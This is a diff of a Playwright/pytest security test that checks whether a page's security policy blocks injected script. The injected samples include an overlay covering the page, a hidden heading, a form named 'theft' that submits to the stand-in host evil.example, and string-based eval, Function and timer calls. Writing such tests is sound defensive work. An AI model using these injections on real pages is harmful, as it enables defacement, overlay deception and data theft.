@@ -29,9 +29,12 @@ INJECTED = """
     added("style", {}, "h1 { display: none }");
     added("p", {style: "position: fixed; inset: 0"}, "over everything");
     added("form", {action: "https://evil.example/", id: "theft"}).submit();
-    try { eval("hits.push('eval')"); } catch {}
-    try { new Function("hits.push('function')")(); } catch {}
-    try { setTimeout("hits.push('timer')"); } catch {}
+    // Later: while Playwright evaluates this, the debugger's protocol lets strings be run whatever the policy says.
+    setTimeout(() => {
+        try { eval("hits.push('eval')"); } catch {}
+        try { new Function("hits.push('function')")(); } catch {}
+        try { setTimeout("hits.push('timer')"); } catch {}
+    });
 """
 #: Answers what the browser has blocked, once it has been quiet for a moment.
 WATCHED = """() => new Promise((done) => {
@@ -43,6 +46,13 @@ WATCHED = """() => new Promise((done) => {
     });
     INJECTED
 })"""
+
+#: Whether the heading is shown and nothing lies over it.
+REACHABLE = """() => {
+    const heading = document.querySelector("main h1");
+    const { left, top } = heading.getBoundingClientRect();
+    return heading.checkVisibility() && heading.contains(document.elementFromPoint(left + 2, top + 2));
+}"""
 
 
 @pytest.mark.requirement("SEC-02")
@@ -67,8 +77,9 @@ def test_nothing_injected_runs_loads_or_shows_and_the_page_goes_on_x02(
         "form-action",
     }
     assert page.evaluate("window.hits") == []
-    expect(page.get_by_role("heading").first).to_be_visible()
-    assert page.url.endswith(path)
+    # By script: Playwright waits for the navigation of the form, which the browser has refused.
+    assert page.evaluate(REACHABLE)
+    assert page.evaluate("location.pathname") == path
 
 
 @pytest.mark.requirement("LOGIN-01")
